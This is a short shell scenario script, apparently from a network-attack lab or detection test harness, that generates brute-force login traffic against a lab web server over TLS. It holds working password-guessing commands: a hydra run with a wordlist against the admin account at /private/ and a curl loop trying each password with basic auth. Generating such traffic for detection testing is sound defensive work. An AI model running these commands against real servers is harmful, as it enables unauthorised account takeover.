# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-medusa
# needs: hydra nginx curl
# seconds: 60
# Passwords behind TLS, one connection each.
. $lab/victims.sh

servers() {
	victim_site a 443
	words_up "$(pick 80 200)"
}

scenario() {
	cd "$work" || return
	_kind=$(choose hydra curl)
	setting options "$_kind"
	if [ "$_kind" = hydra ]; then
		attack w a tcp 443 -- timeout 50 hydra -I -t "$(choose 1 4)" -l admin \
			-P "$work/words" -S \
			-s 443 "$(addr a)" https-get /private/
	else
		# shellcheck disable=SC2016
		attack w a tcp 443 -- timeout 50 sh -c 'while read -r p; do
			curl -sk -o /dev/null -u "admin:$p" "https://$1/private/"
			sleep "$2"; done <"$3"' sh "$(addr a)" "$(choose 0 0.2 1)" "$work/words"
	fi
}
